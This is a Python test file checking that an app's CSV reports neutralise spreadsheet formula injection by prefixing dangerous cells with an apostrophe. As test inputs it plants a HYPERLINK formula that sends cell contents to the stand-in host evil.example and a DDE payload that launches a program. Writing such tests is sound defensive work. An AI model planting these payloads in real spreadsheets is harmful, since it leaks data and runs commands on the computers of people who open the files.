"""Spreadsheet formula injection (issue 12, item 11): exported cells never start a formula."""

import csv
import io

import pytest

from alliance.spreadsheets import safe_cell


def _key(page: str) -> str:
    return page.split('name="key" type="hidden" value="')[1].split('"')[0]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_member_named_as_a_formula_is_neutralised_in_the_reports(counter, as_user, db):
    counter.shop.name = '=HYPERLINK("https://evil.example/?"&A1,"点我")'
    counter.free.commitment.title = "+cmd|' /C calc'!A0"
    db.session.commit()
    client = as_user("merchant")
    key = _key(client.get(f"/c/{counter.code}").get_data(as_text=True))
    client.post(
        f"/c/{counter.code}/redeem", data={"offer_id": counter.free_id, "bill": "100", "key": key}
    )
    merchant_rows = _rows(client.get("/cards/merchant.csv"))
    offer_cells = [row[3] for row in merchant_rows[1:]]
    assert offer_cells == ["'+cmd|' /C calc'!A0"]
    secretary = as_user("secretary_a")
    report_rows = _rows(secretary.get("/cards/report.csv"))
    names = [row[3] for row in report_rows[1:]]
    assert names == ['\'=HYPERLINK("https://evil.example/?"&A1,"点我")']
    for row in merchant_rows + report_rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_get_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_plain_text_and_numbers_stay():
    assert (
        safe_cell("明珠面馆") == "明珠面馆"
        and safe_cell(-5) == -5
        and safe_cell("10.00") == "10.00"
    )
